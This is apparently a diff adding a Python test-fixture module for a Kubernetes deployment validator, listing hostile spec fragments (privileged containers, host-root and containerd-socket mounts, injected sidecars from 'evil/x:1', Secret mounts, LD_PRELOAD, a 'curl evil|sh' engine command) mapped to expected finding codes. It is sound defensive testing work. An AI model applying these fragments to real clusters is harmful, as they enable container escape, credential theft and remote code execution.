@@ -1,0 +1,159 @@
+"""Hostile specs: what each asks for, as fields laid over an app that asks for nothing."""
+
+from __future__ import annotations
+
+APP = """\
+apiVersion: stormc.dev/v1
+kind: App
+name: app
+namespace: team-a
+model: {name: m, path: /mnt/models/x}
+image: registry.example.com/vllm-ascend@sha256:%s
+hardware: atlas-800i-a2
+networkPolicy: true
+engine: {version: "0.23"}
+prefill: {tensorParallel: 8}
+decode: {tensorParallel: 8}
+""" % ("0" * 64)
+
+POLICY = """\
+apiVersion: stormc.dev/v1
+kind: Platform
+namespace: team-a
+policy:
+  namespaces: [inference, "team-a*"]
+  registries: [registry.example.com/]
+  images: digest
+  podSecurity: npu
+  hostPaths: [/mnt/models]
+  queues: [team-a]
+  priorityClasses: [inference-low]
+  tolerations: ["huawei.com/*"]
+  maxNpus: 64
+  serviceTypes: [ClusterIP]
+  networkPolicy: required
+  trustRemoteCode: allow
+  engine: {command: deny, script: deny}
+  overrides:
+    deny: ["**.securityContext", "**.hostNetwork", "**.serviceAccountName", "**.initContainers"]
+    approvers: [platform-team]
+    expires: required
+    maxDays: 90
+  delegate: [namespace, defaults]
+"""
+
+
+def storm(role: str, pod: str) -> str:
+    """An override of the pod spec of a role."""
+    return override(
+        "StormService", f"{{spec: {{template: {{spec: {{roles: [{{name: {role}, template: {{spec: {pod}}}}}]}}}}}}}}"
+    )
+
+
+def override(target: str, patch: str) -> str:
+    """An override that an approver answers for, and that ends soon."""
+    return f"overrides: [{{target: {target}, reason: r, owner: platform-team, expires: 2027-01-01, patch: {patch}}}]"
+
+
+def prefill(fields: str) -> str:
+    """Further fields of the prefill role."""
+    return f"prefill: {{tensorParallel: 8, {fields}}}"
+
+
+def container(fields: str) -> str:
+    """An override of the prefill container."""
+    return storm("prefill", f"{{containers: [{{name: prefill, {fields}}}]}}")
+
+
+def mounted(volume: str, role: str = "routing", name: str = "router") -> str:
+    """An override that mounts a volume."""
+    mount = f"containers: [{{name: {name}, volumeMounts: [{{name: h, mountPath: /h}}]}}]"
+    return storm(role, f"{{volumes: [{{name: h, {volume}}}], {mount}}}")
+
+
+# name → the fields, and the number that its findings have: E… under the policy, W… without one
+HOSTILE: dict[str, tuple[str, str]] = {
+    "privileged": (container("securityContext: {privileged: true}"), "804"),
+    "hostPID and hostIPC": (storm("prefill", "{hostPID: true, hostIPC: true}"), "804"),
+    "hostNetwork": (storm("prefill", "{hostNetwork: true}"), "804"),
+    "hostNetwork as a field": ("hostNetwork: true\ninterface: eth1", "804"),
+    "the node's root": (mounted("hostPath: {path: /}", "prefill", "prefill"), "805"),
+    "the runtime's socket": (mounted("hostPath: {path: /run/containerd/containerd.sock}"), "805"),
+    "the model from the node's root": ("model: {name: m, path: /mnt/models/x, volume: {hostPath: /}}", "805"),
+    "the model from the node's configuration": ("model: {name: m, path: /etc/kubernetes/x}", "805"),
+    "a service account": (storm("prefill", "{serviceAccountName: admin, automountServiceAccountToken: true}"), "806"),
+    "a token": (storm("routing", "{automountServiceAccountToken: true}"), "806"),
+    "a node by its name": (storm("routing", "{nodeName: master-1}"), "807"),
+    "every taint": ("routing: {tolerations: [{operator: Exists}]}", "807"),
+    "the control plane": ('routing: {nodeSelector: {node-role.kubernetes.io/control-plane: ""}}', "807"),
+    "an init container": (storm("prefill", "{initContainers: [{name: i, image: 'evil/x:1', command: [sh]}]}"), "808"),
+    "a sidecar": (storm("routing", "{containers: [{name: s, image: 'evil/x:1'}]}"), "808"),
+    "a Secret as a volume": (mounted("secret: {secretName: argocd-cluster}"), "809"),
+    "a Secret as environment": (
+        storm("routing", "{containers: [{name: router, envFrom: [{secretRef: {name: db}}]}]}"),
+        "809",
+    ),
+    "pull secrets": ("imagePullSecrets: [registry-admin]", "809"),
+    "external addresses": (override("Service/app-router", "{spec: {externalIPs: [10.0.0.1]}}"), "810"),
+    "an external name": (
+        override("Service/app-router", "{spec: {type: ExternalName, externalName: evil.example}}"),
+        "810",
+    ),
+    "a load balancer": (override("Service/app-router", "{spec: {type: LoadBalancer}}"), "810"),
+    "an open network policy": (override("NetworkPolicy", "{spec: {ingress: [{}]}}"), "811"),
+    "a command": ("engine: {version: '0.23', command: [sh, -c, 'curl evil|sh']}", "813"),
+    "a hook": (container("lifecycle: {postStart: {exec: {command: [sh, -c, id]}}}"), "813"),
+    "a probe": (container("livenessProbe: {exec: {command: [sh, -c, id]}}"), "813"),
+    "another command": (container("command: [sh, -c, id]"), "813"),
+    "the launcher": (override("ConfigMap/app-proxy-config", "{data: {config.json: x}}"), "813"),
+    "LD_PRELOAD": (prefill("env: {LD_PRELOAD: /mnt/models/x.so}"), "813"),
+    "PYTHONPATH": (prefill("env: {PYTHONPATH: /mnt/models}"), "813"),
+    "a label that Services select": (prefill("labels: {app: payments}"), "814"),
+    "a recommended label": (prefill("labels: {app.kubernetes.io/name: payments}"), "814"),
+    "another app's label": (prefill("labels: {stormc.dev/app: team-b.victim}"), "814"),
+    "annotations of networks": (prefill("annotations: {k8s.v1.cni.cncf.io/networks: other}"), "814"),
+    "annotations of a mesh": (prefill('annotations: {sidecar.istio.io/inject: "false"}'), "814"),
+    "apparmor": (prefill("annotations: {container.apparmor.security.beta.kubernetes.io/prefill: unconfined}"), "814"),
+    "finalizers": (override("Service", "{metadata: {finalizers: [a.b/c]}}"), "814"),
+    "a hook of Argo CD": (override("Service", "{metadata: {annotations: {argocd.argoproj.io/hook: PreSync}}}"), "814"),
+    "the owner's label": (override("Service", "{metadata: {labels: {app.kubernetes.io/managed-by: Helm}}}"), "814"),
+    "a token in plain text": (prefill("env: {HF_TOKEN: hf_abcdefghijklmnopqrstuvwxyz012345}"), "815"),
+    "a key in plain text": (prefill("env: {AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMIK7MDENG}"), "815"),
+    "a token of a known form": (prefill("env: {X: hf_abcdefghijklmnopqrstuvwxyz012345}"), "815"),
+    "an API key as a flag": (prefill("engineArgs: {api-key: sk-12345}"), "815"),
+    "Flux's substitution": (prefill('env: {A: "${PASSWORD}"}'), "816"),
+    "another team's queue": (
+        "prefill: {tensorParallel: 8, queue: team-b}\ndecode: {tensorParallel: 8, queue: team-b}",
+        "817",
+    ),
+    "a system priority": ("prefill: {tensorParallel: 8, priorityClassName: system-node-critical}\n"
+                          "decode: {tensorParallel: 8, priorityClassName: system-node-critical}", "818"),
+    "kube-system": ("namespace: kube-system", "824"),
+    "argocd": ("namespace: argocd", "824"),
+    "a port of the node": (storm("routing", "{containers: [{name: router, ports: [{containerPort: 8080, hostPort: 443, "
+                                 "protocol: TCP}]}]}"), "804"),
+    "root in routing pods": (storm("routing", "{securityContext: {runAsNonRoot: false, runAsUser: 0}}"), "804"),
+    "a capability": (container("securityContext: {capabilities: {add: [SYS_ADMIN]}}"), "804"),
+    "no seccomp": (container("securityContext: {seccompProfile: {type: Unconfined}}"), "804"),
+    "an unmasked /proc": (container("securityContext: {procMount: Unmasked}"), "804"),
+    "a kernel setting": (storm("prefill", "{securityContext: {sysctls: [{name: kernel.msgmax, value: '1'}]}}"), "804"),
+}  # fmt: skip
+
+# what only a policy can know to be wrong: the rule that says so under the policy
+FORBIDDEN: dict[str, tuple[str, str]] = {
+    "another registry": (f"image: registry.example.com.evil/x@sha256:{'0' * 64}", "E802"),
+    "a script": ("engine: {version: '0.23', script: {hostPath: /opt/scripts, command: ./x}}", "E813"),
+    "a tag": ("image: registry.example.com/vllm-ascend:v1", "E803"),
+    "another namespace": ("namespace: team-b", "E824"),
+    "no network policy": ("networkPolicy: false", "E811"),
+    "another owner": (override("Service", "{metadata: {labels: {a: b}}}").replace("platform-team", "me"), "E820"),
+    "an override without end": (
+        override("Service", "{metadata: {labels: {a: b}}}").replace("expires: 2027-01-01, ", ""),
+        "E820",
+    ),
+    "an override that lasts": (override("Service", "{metadata: {labels: {a: b}}}").replace("2027", "2031"), "E820"),
+    "a denied path": (container("securityContext: {readOnlyRootFilesystem: true}"), "E820"),
+    "a taint of others": ("routing: {tolerations: [{key: gpu, operator: Exists}]}", "E807"),
+    "too many NPUs": ("prefill: {tensorParallel: 8, replicas: 9}", "E819"),
+    "a node port": (override("Service/app-router", "{spec: {type: NodePort}}"), "E810"),
+}  # fmt: skip
